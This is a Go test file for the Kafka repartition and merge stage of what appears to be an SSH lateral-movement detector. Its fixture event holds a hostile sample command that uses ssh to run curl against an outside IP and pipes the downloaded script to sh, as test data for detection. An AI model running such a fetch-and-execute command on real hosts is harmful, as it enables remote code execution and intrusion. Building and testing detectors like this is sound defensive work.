package consumer

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/sshlateral/sshlateral/consumer/decode"
	"github.com/sshlateral/sshlateral/processor"
)

func repartEvent() processor.Event {
	return processor.Event{
		Time: time.Date(2026, 11, 2, 9, 53, 0, 150_000_000, time.UTC),
		Dest: "web-01", User: "root", ProcessName: "ssh", ProcessPath: "/usr/bin/ssh", ProcessID: "4242",
		Process:       "ssh -oBatchMode=yes 10.0.0.5 curl http://203.0.113.7/x.sh | sh",
		ParentProcess: "/bin/bash", ParentProcessName: "bash", ParentProcessPath: "/usr/bin/bash", ParentProcessID: "41",
		// OriginalFileName missing: "" must stay "".
	}
}

func TestRepartitionCodecRoundTrip(t *testing.T) {
	ev := repartEvent()
	for _, tc := range []struct {
		name      string
		value     []byte
		want      repartRecord
		wantEvent *processor.Event
	}{
		{"event", appendRepartEvent(nil, 3, 1<<40, 2, &ev),
			repartRecord{source: 3, offset: 1 << 40, seq: 2, timeNanos: ev.Time.UnixNano()}, &ev},
		{"event without fields", appendRepartEvent(nil, 0, 0, 0, &processor.Event{Time: time.Unix(0, 0).UTC()}),
			repartRecord{}, &processor.Event{Time: time.Unix(0, 0).UTC()}},
		{"marker with time", appendRepartMarker(nil, 5, 12, true, ev.Time.UnixNano()),
			repartRecord{marker: true, source: 5, sources: 12, hasTime: true, timeNanos: ev.Time.UnixNano()}, nil},
		{"marker without time", appendRepartMarker(nil, 0, 1, false, 0),
			repartRecord{marker: true, sources: 1}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got processor.Event
			rec, err := decodeRepart(tc.value, &got)
			if err != nil {
				t.Fatal(err)
			}
			if rec != tc.want {
				t.Errorf("record %+v, want %+v", rec, tc.want)
			}
			if tc.wantEvent != nil && !reflect.DeepEqual(got, *tc.wantEvent) {
				t.Errorf("event %+v, want %+v", got, *tc.wantEvent)
			}
		})
	}
}

func TestRepartitionCodecErrors(t *testing.T) {
	ev := repartEvent()
	event := appendRepartEvent(nil, 1, 2, 0, &ev)
	for _, tc := range []struct {
		name  string
		value []byte
	}{
		{"empty", nil},
		{"header only tag", []byte{repartEventTag}},
		{"unknown tag", []byte{'X', repartVersion, 0}},
		{"unknown version", []byte{repartEventTag, 9, 0}},
		{"truncated event", event[:len(event)-3]},
		{"trailing bytes", append(append([]byte(nil), event...), 0)},
		{"string longer than value", []byte{repartEventTag, repartVersion, 0, 0, 0, 0, 200}},
		{"marker source beyond count", appendRepartMarker(nil, 4, 4, false, 0)},
		{"marker unknown flag", []byte{repartMarkerTag, repartVersion, 0, 1, 0x80}},
		{"marker truncated time", []byte{repartMarkerTag, repartVersion, 0, 1, markerHasTime}},
		{"source partition overflow", append([]byte{repartMarkerTag, repartVersion}, bytes.Repeat([]byte{0xff}, 4)...)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got processor.Event
			if _, err := decodeRepart(tc.value, &got); !errors.Is(err, ErrRepartitionRecord) {
				t.Fatalf("error %v, want ErrRepartitionRecord", err)
			}
		})
	}
}

// FuzzDecodeRepart: any value decodes or fails with ErrRepartitionRecord,
// and what decodes encodes back to the same record and event.
func FuzzDecodeRepart(f *testing.F) {
	ev := repartEvent()
	f.Add(appendRepartEvent(nil, 3, 99, 0, &ev))
	f.Add(appendRepartMarker(nil, 2, 6, true, ev.Time.UnixNano()))
	f.Add(appendRepartMarker(nil, 0, 1, false, 0))
	f.Add([]byte{repartEventTag, repartVersion})
	f.Fuzz(func(t *testing.T, v []byte) {
		var got processor.Event
		rec, err := decodeRepart(v, &got)
		if err != nil {
			if !errors.Is(err, ErrRepartitionRecord) {
				t.Fatalf("error %v does not wrap ErrRepartitionRecord", err)
			}
			return
		}
		var again []byte
		if rec.marker {
			again = appendRepartMarker(nil, rec.source, rec.sources, rec.hasTime, rec.timeNanos)
		} else {
			again = appendRepartEvent(nil, rec.source, rec.offset, rec.seq, &got)
		}
		var got2 processor.Event
		rec2, err := decodeRepart(again, &got2)
		if err != nil || rec2 != rec || !reflect.DeepEqual(got, got2) {
			t.Fatalf("re-encoded %+v %+v: %+v %+v, %v", rec, got, rec2, got2, err)
		}
	})
}

// mergeWorker is a stage-2 worker without Kafka: its partition and merge
// state only.
func mergeWorker(t *testing.T, idle time.Duration) *worker {
	t.Helper()
	cfg := testConfig([]string{"127.0.0.1:1"})
	cfg.InputKeying = KeyingAny
	cfg.Processor.Emit = processor.EmitFinal
	cfg.Processor.IdleClose = idle
	p, err := New(cfg, nopEncoder{})
	if err != nil {
		t.Fatal(err)
	}
	part, err := processor.NewPartition(p.cfg.Processor)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(part.Release)
	return &worker{p: p, tp: tp{p.cfg.InputTopic, 0}, part: part, merge: newMergeState(p)}
}

type nopEncoder struct{}

func (nopEncoder) Records([]processor.Result, []*kgo.Record) ([]*kgo.Record, error) { return nil, nil }

func repartRec(value []byte, offset int64, ts time.Time) *kgo.Record {
	return &kgo.Record{Topic: "sshlateral.repartition", Value: value, Offset: offset, Timestamp: ts}
}

// TestMergeDedup: a match repeated by stage 1 (same source partition, an
// offset not above the highest applied) is dropped, in the state and
// across a changelog restore.
func TestMergeDedup(t *testing.T) {
	w := mergeWorker(t, 0)
	ev := repartEvent()
	now := ev.Time.Add(time.Minute)
	b := &batch{}
	feed := func(w *worker, source int32, offsets ...int64) (applied int64) {
		for _, off := range offsets {
			applied += w.merge.apply(w, repartRec(appendRepartEvent(nil, source, off, 0, &ev), 0, now), now, b)
		}
		return applied
	}
	if n := feed(w, 0, 10, 20, 10, 20, 15); n != 2 {
		t.Fatalf("source 0: %d of offsets 10 20 10 20 15 applied, want 2", n)
	}
	if n := feed(w, 1, 10); n != 1 {
		t.Fatalf("source 1 offset 10: %d applied, want 1 (sources are apart)", n)
	}
	// One record may complete several matches: (offset, sequence) orders them.
	for _, m := range []struct {
		offset, seq int64
		applied     bool
	}{{30, 0, true}, {30, 1, true}, {30, 0, false}, {30, 1, false}, {30, 2, true}, {29, 5, false}} {
		got := w.merge.apply(w, repartRec(appendRepartEvent(nil, 0, m.offset, m.seq, &ev), 0, now), now, b) == 1
		if got != m.applied {
			t.Fatalf("source 0 offset %d sequence %d: applied %v, want %v", m.offset, m.seq, got, m.applied)
		}
	}
	if got := w.p.stats.repartitionDuplicates.Load(); got != 6 {
		t.Errorf("duplicates counted %d, want 6", got)
	}
	if n := len(w.merge.held); n != 6 {
		t.Errorf("%d matches held, want 6 (no marker line yet)", n)
	}

	restored := mergeWorker(t, 0)
	for _, c := range w.merge.drainChanges(nil) {
		if !isRepartitionKey(c.Key) {
			t.Fatalf("change key %q is not a source key", c.Key)
		}
		if err := restored.merge.restore(c); err != nil {
			t.Fatal(err)
		}
	}
	if n := feed(restored, 0, 20, 30, 31); n != 1 {
		t.Errorf("after restore: %d of offsets 20 30 31 applied, want 1", n)
	}
	if n := len(restored.merge.held); n != 7 {
		t.Errorf("after restore: %d matches held, want 7", n)
	}
	if len(b.deadLetters) != 0 {
		t.Errorf("%d dead letters", len(b.deadLetters))
	}
}

// TestMergeLine: the marker line is the minimum over the source
// partitions, once all have reported; a source without events holds it
// back, and a silent one does so only until IdleClose of wall-clock time
// has passed while others moved.
func TestMergeLine(t *testing.T) {
	base := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
	at := func(m int) int64 { return base.Add(time.Duration(m) * time.Minute).UnixNano() }
	type marker struct {
		source  int32
		hasTime bool
		minute  int
		wall    int // minutes after base: the wall clock when it is read
	}
	for _, tc := range []struct {
		name    string
		idle    time.Duration
		sources int32
		markers []marker
		want    int // minute; -1: no line
	}{
		{"one of two sources reported", 0, 2, []marker{{0, true, 30, 30}}, -1},
		{"minimum of two", 0, 2, []marker{{0, true, 30, 30}, {1, true, 20, 30}}, 20},
		{"a source never moves back", 0, 2, []marker{{0, true, 30, 30}, {1, true, 20, 30}, {1, true, 10, 31}}, 20},
		{"slow source catches up", 0, 2, []marker{{0, true, 30, 30}, {1, true, 20, 30}, {1, true, 40, 40}}, 30},
		{"source without events holds", 0, 2, []marker{{0, true, 30, 30}, {1, false, 0, 30}}, -1},
		{"source without events released after idle close", time.Minute, 2, []marker{{1, false, 0, 10}, {0, true, 30, 30}}, 30},
		{"silent source holds without idle close", 0, 2, []marker{{0, true, 10, 10}, {1, true, 12, 12}, {1, true, 90, 90}}, 10},
		{"silent source released after idle close", time.Minute, 2, []marker{{0, true, 10, 10}, {1, true, 12, 12}, {1, true, 90, 90}}, 90},
		{"silent within idle close still holds", 2 * time.Hour, 2, []marker{{0, true, 10, 10}, {1, true, 12, 12}, {1, true, 90, 90}}, 10},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := mergeWorker(t, tc.idle)
			w.merge.latest = 0 // the test's wall clock starts at base
			for _, m := range tc.markers {
				v := appendRepartMarker(nil, m.source, tc.sources, m.hasTime, at(m.minute))
				wall := base.Add(time.Duration(m.wall) * time.Minute)
				w.merge.apply(w, repartRec(v, 0, wall), wall, &batch{})
			}
			line, ok := w.merge.line()
			if tc.want < 0 {
				if ok {
					t.Fatalf("line %s, want none", time.Unix(0, line).UTC())
				}
				return
			}
			if !ok || line != at(tc.want) {
				t.Fatalf("line %s (%v), want %s", time.Unix(0, line).UTC(), ok, time.Unix(0, at(tc.want)).UTC())
			}
			// The partition clock follows it, held back by the grace.
			if got, want := w.part.Watermark(), time.Unix(0, at(tc.want)).Add(-w.p.cfg.Processor.Grace).UTC(); !got.Equal(want) {
				t.Errorf("partition watermark %s, want %s", got, want)
			}
		})
	}
}

// TestMergeUndecodable: a repartition record stage 2 cannot read is
// dead-lettered, never dropped, and changes nothing.
func TestMergeUndecodable(t *testing.T) {
	w := mergeWorker(t, 0)
	b := &batch{}
	if n := w.merge.apply(w, repartRec([]byte("not a repartition record"), 7, time.Now()), time.Now(), b); n != 0 {
		t.Fatalf("applied %d", n)
	}
	if len(b.deadLetters) != 1 || b.reasons[0] != DLQReasonDecode {
		t.Fatalf("dead letters %d (%v), want one decode_error", len(b.deadLetters), b.reasons)
	}
	if len(w.merge.sources) != 0 {
		t.Errorf("sources changed: %v", w.merge.sources)
	}
}

func TestMergeRestoreErrors(t *testing.T) {
	w := mergeWorker(t, 0)
	for _, tc := range []struct {
		name       string
		key, value string
	}{
		{"not a partition", sourceKeyPrefix + "x", "S\x01\x00\x00\x00\x00"},
		{"unknown kind", repartKeyPrefix + "other/1", "S\x01\x00\x00\x00\x00"},
		{"held marker", heldKeyPrefix + "0/0", "H\x01\x00" + string(appendRepartMarker(nil, 0, 1, false, 0))},
		{"held under another key", heldKeyPrefix + "0/2/1", "H\x01\x00" + string(appendRepartEvent(nil, 0, 2, 0, &processor.Event{}))},
		{"wrong tag", sourceKeyPrefix + "1", "G\x01\x00\x00\x00\x00"},
		{"truncated", sourceKeyPrefix + "1", "S\x01\x00"},
		{"trailing", sourceKeyPrefix + "1", "S\x01\x00\x00\x00\x00\x00\x00"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := w.merge.restore(processor.StateChange{Key: []byte(tc.key), Value: []byte(tc.value)}); err == nil {
				t.Fatal("restored")
			}
		})
	}
}

func TestParseInputKeying(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want InputKeying
		err  bool
	}{{"host", KeyingHost, false}, {"ANY", KeyingAny, false}, {"dest", 0, true}, {"", 0, true}} {
		got, err := ParseInputKeying(tc.in)
		if (err != nil) != tc.err || got != tc.want {
			t.Errorf("ParseInputKeying(%q) = %v, %v", tc.in, got, err)
		}
	}
}

// TestInputKeyingDefaults: any derives its own topics, apart from the
// host-keyed changelog, and Validate keeps the repartition topic apart
// from the others.
func TestInputKeyingDefaults(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Brokers = []string{"b:9092"}
	cfg.InputKeying = KeyingAny
	cfg = cfg.WithDefaults()
	if cfg.RepartitionTopic != "sshlateral.repartition" || cfg.ChangelogTopic != "sshlateral.repartition-changelog" {
		t.Fatalf("repartition %q, changelog %q", cfg.RepartitionTopic, cfg.ChangelogTopic)
	}
	cfg.RepartitionTopic = cfg.InputTopic
	var fe *FieldError
	if err := cfg.Validate(); !errors.As(err, &fe) || fe.Field != "RepartitionTopic" {
		t.Fatalf("Validate: %v, want a RepartitionTopic error", err)
	}
}

// TestMergeHoldsUntilLine: matches of two sources arrive out of event-time
// order; none reaches the partition before every source's marker has
// passed it, and then they do in event-time order. A match released is
// tombstoned in the changelog once written there.
func TestMergeHoldsUntilLine(t *testing.T) {
	w := mergeWorker(t, 0)
	w.part, _ = processor.NewPartition(func() processor.Config {
		c := w.p.cfg.Processor
		c.Emit = processor.EmitEarly
		return c
	}())
	t.Cleanup(w.part.Release)
	base := repartEvent().Time
	now := base.Add(2 * time.Hour)
	b := &batch{}
	match := func(source int32, offset int64, minute int) {
		ev := repartEvent()
		ev.Time = base.Add(time.Duration(minute) * time.Minute)
		ev.ProcessID = fmt.Sprint(minute) // a group each
		w.merge.apply(w, repartRec(appendRepartEvent(nil, source, offset, 0, &ev), 0, now), now, b)
	}
	marker := func(source int32, minute int) {
		v := appendRepartMarker(nil, source, 2, true, base.Add(time.Duration(minute)*time.Minute).UnixNano())
		w.merge.apply(w, repartRec(v, 0, now), now, b)
	}
	match(1, 5, 30) // source 1 is ahead
	match(1, 6, 40)
	match(0, 9, 10)
	marker(1, 40)
	if len(w.results) != 0 {
		t.Fatalf("%d results before every source reported", len(w.results))
	}
	if changes := w.merge.drainChanges(nil); len(changes) != 5 { // 2 sources, 3 held
		t.Fatalf("%d changes, want 5", len(changes))
	}
	marker(0, 35)
	var got []int
	for _, r := range w.results {
		got = append(got, int(r.FirstSeen.Sub(base)/time.Minute))
	}
	if fmt.Sprint(got) != "[10 30]" {
		t.Fatalf("released minutes %v, want [10 30] (40 is beyond source 0's 35)", got)
	}
	var tombs []string
	for _, c := range w.merge.drainChanges(nil) {
		if c.Value == nil {
			tombs = append(tombs, string(c.Key))
		}
	}
	if want := []string{heldKeyPrefix + "0/9/0", heldKeyPrefix + "1/5/0"}; fmt.Sprint(tombs) != fmt.Sprint(want) {
		t.Errorf("tombstones %v, want %v", tombs, want)
	}
}

// TestMergeRestoredWaitsForMarker: a restored partition knows only the
// sources it had heard of; a match arriving before any marker is held
// even if it is older than every restored source's time, since a source
// not yet heard of may be behind it.
func TestMergeRestoredWaitsForMarker(t *testing.T) {
	w := mergeWorker(t, 0)
	ev := repartEvent()
	now := ev.Time.Add(time.Hour)
	w.merge.apply(w, repartRec(appendRepartMarker(nil, 0, 2, true, ev.Time.Add(30*time.Minute).UnixNano()), 0, now), now, &batch{})
	restored := mergeWorker(t, 0)
	for _, c := range w.merge.drainChanges(nil) {
		if err := restored.merge.restore(c); err != nil {
			t.Fatal(err)
		}
	}
	restored.merge.apply(restored, repartRec(appendRepartEvent(nil, 0, 1, 0, &ev), 0, now), now, &batch{})
	if n := len(restored.merge.held); n != 1 {
		t.Fatalf("%d matches held after restore, want 1 (source 1 not heard of yet)", n)
	}
	restored.merge.apply(restored, repartRec(appendRepartMarker(nil, 1, 2, true, ev.Time.UnixNano()), 0, now), now, &batch{})
	if n := len(restored.merge.held); n != 0 {
		t.Fatalf("%d matches held once both sources passed it, want 0", n)
	}
}

// FuzzMergeRelease: three sources send matches and markers interleaved in
// any order, with repeats, and the stage-2 state is drained and restored
// at any point. Each source's events are in time order, as a host-keyed
// partition would read them; so no match may come out LATE, and after
// the last markers every distinct match is counted exactly once.
func FuzzMergeRelease(f *testing.F) {
	f.Add([]byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9})
	f.Add([]byte{0x10, 0x21, 0x32, 0x43, 0x54, 0x65, 0x06, 0x17, 0x28})
	f.Add([]byte{0xf0, 0xe1, 0xd2, 0x03, 0x13, 0x23, 0x80, 0x81, 0x82, 0x40})
	f.Add([]byte("\xd1\xf50")) // a later source's match first: LATE without holding
	f.Add([]byte("X\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5\xe5"))
	f.Fuzz(func(t *testing.T, ops []byte) {
		const sources = 3
		base := repartEvent().Time
		now := base.Add(365 * 24 * time.Hour) // every event time is in the past
		w := mergeWorker(t, 0)
		log := map[string][]byte{} // the changelog, compacted
		persist := func() {
			for _, c := range append(w.part.DrainChanges(nil), w.merge.drainChanges(nil)...) {
				if c.Value == nil {
					delete(log, string(c.Key))
				} else {
					log[string(c.Key)] = c.Value
				}
			}
		}
		var results []processor.Result
		collect := func() { results, w.results = append(results, w.results...), w.results[:0] }
		var clock [sources]time.Duration // each source's newest event time
		var next [sources]int64          // each source's next offset
		sent := map[[2]int64]*kgo.Record{}
		distinct := 0
		for _, op := range ops {
			s := int32(op % sources)
			switch kind := op / sources % 4; kind {
			case 0, 1: // a match, up to 40 minutes after the source's last event
				clock[s] += time.Duration(op>>4) * 3 * time.Minute
				ev := repartEvent()
				ev.Time = base.Add(clock[s])
				ev.ProcessID = fmt.Sprint(s, "/", next[s]) // a group of its own
				r := repartRec(appendRepartEvent(nil, s, next[s], 0, &ev), 0, now)
				sent[[2]int64{int64(s), next[s]}] = r
				next[s]++
				distinct++
				w.merge.apply(w, r, now, &batch{})
			case 2: // a marker with the source's progress
				clock[s] += time.Duration(op>>5) * time.Minute
				v := appendRepartMarker(nil, s, sources, true, base.Add(clock[s]).UnixNano())
				w.merge.apply(w, repartRec(v, 0, now), now, &batch{})
			case 3: // a repeat of an earlier match, or a restore
				if op&0x80 != 0 {
					persist()
					collect()
					w = mergeWorker(t, 0)
					for k, v := range log {
						c := processor.StateChange{Key: []byte(k), Value: v}
						var err error
						if isRepartitionKey(c.Key) {
							err = w.merge.restore(c)
						} else {
							err = w.part.Restore(c)
						}
						if err != nil {
							t.Fatal(err)
						}
					}
					continue
				}
				if next[s] > 0 {
					w.merge.apply(w, sent[[2]int64{int64(s), next[s] / 2}], now, &batch{})
				}
			}
			collect()
		}
		// Every source passes every match.
		end := base.Add(slices.Max(clock[:]) + time.Hour).UnixNano()
		for s := range int32(sources) {
			v := appendRepartMarker(nil, s, sources, true, end)
			w.merge.apply(w, repartRec(v, 0, now), now, &batch{})
		}
		w.results = w.part.Flush(w.results)
		collect()
		counted := 0
		for _, r := range results {
			if r.Emission == processor.EmissionLate {
				t.Fatalf("LATE result %+v", r.Key)
			}
			if r.Count != 1 {
				t.Fatalf("group %s counted %d times", r.Key.ProcessID, r.Count)
			}
			counted++
		}
		if counted != distinct || len(w.merge.held) != 0 {
			t.Fatalf("%d FINALs for %d distinct matches, %d still held", counted, distinct, len(w.merge.held))
		}
	})
}

// TestSplitSequence: stage 1 numbers the matches one source record
// completes, from 0 at each new offset.
func TestSplitSequence(t *testing.T) {
	cfg := testConfig([]string{"127.0.0.1:1"})
	cfg.InputKeying = KeyingAny
	p, err := New(cfg, nopEncoder{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSplitState(p.split, 4)
	p.split.repartitions = 3
	ev := repartEvent()
	var got []string
	for _, off := range []int64{7, 7, 7, 8, 9, 9} {
		rec := s.matchRecord(&kgo.Record{Partition: 4, Offset: off}, &ev, time.Now())
		var e processor.Event
		r, err := decodeRepart(rec.Value, &e)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, fmt.Sprintf("%d/%d", r.offset, r.seq))
	}
	if want := "[7/0 7/1 7/2 8/0 9/0 9/1]"; fmt.Sprint(got) != want {
		t.Fatalf("matches %v, want %s", got, want)
	}
}

type captureDelivery struct{ batches []*batch }

func (c *captureDelivery) deliver(_ context.Context, _ *worker, b *batch) error {
	c.batches = append(c.batches, b)
	return nil
}

// TestSplitMarkerWithEveryFlush: a stage-1 worker's flush (here the one a
// stopping worker makes) carries the marker of everything it commits, even
// right after another marker: the next owner starts after those offsets
// and would never report their progress.
func TestSplitMarkerWithEveryFlush(t *testing.T) {
	cfg := testConfig([]string{"127.0.0.1:1"})
	cfg.InputKeying = KeyingAny
	p, err := New(cfg, nopEncoder{})
	if err != nil {
		t.Fatal(err)
	}
	sp := p.split
	sp.sources, sp.repartitions = 1, 2
	dec, err := decode.NewDecoder(decode.FormatAuto)
	if err != nil {
		t.Fatal(err)
	}
	part, err := processor.NewPartition(sp.cfg.Processor)
	if err != nil {
		t.Fatal(err)
	}
	d := &captureDelivery{}
	w := &worker{p: sp, d: d, tp: tp{sp.cfg.InputTopic, 0}, part: part, dec: dec, decode: dec.Decode,
		split: newSplitState(sp, 0), highWater: -1}
	t0 := time.Date(2026, 11, 3, 12, 0, 0, 0, time.UTC)
	rec := func(off int64, minute int) *kgo.Record {
		v := fmt.Sprintf(`{"_time":"%s","dest":"h","process_name":"true","process":"/usr/bin/true"}`,
			t0.Add(time.Duration(minute)*time.Minute).Format(time.RFC3339))
		return &kgo.Record{Topic: sp.cfg.InputTopic, Offset: off, Value: []byte(v), Timestamp: t0.Add(time.Hour)}
	}
	now := t0.Add(time.Hour)
	for _, j := range []job{
		{recs: []*kgo.Record{rec(0, 1)}, now: now, highWater: -1},                            // flushes: marker at :01
		{recs: []*kgo.Record{rec(1, 2)}, now: now.Add(10 * time.Millisecond), highWater: -1}, // no flush yet
		{flush: true, now: now.Add(20 * time.Millisecond), highWater: -1},                    // the stop's flush
	} {
		if err := w.handle(context.Background(), j); err != nil {
			t.Fatal(err)
		}
	}
	last := d.batches[len(d.batches)-1]
	if last.last == nil || last.last.Offset != 1 {
		t.Fatalf("the stop's flush marks %v, want offset 1", last.last)
	}
	var markers []string
	for _, r := range last.risk {
		var ev processor.Event
		m, err := decodeRepart(r.Value, &ev)
		if err != nil || !m.marker {
			t.Fatalf("record %q: %+v %v", r.Value, m, err)
		}
		markers = append(markers, fmt.Sprintf("%d:%s", r.Partition, time.Unix(0, m.timeNanos).UTC().Format("15:04")))
	}
	if want := "[0:12:02 1:12:02]"; fmt.Sprint(markers) != want {
		t.Fatalf("markers with the stop's flush %v, want %s", markers, want)
	}
}
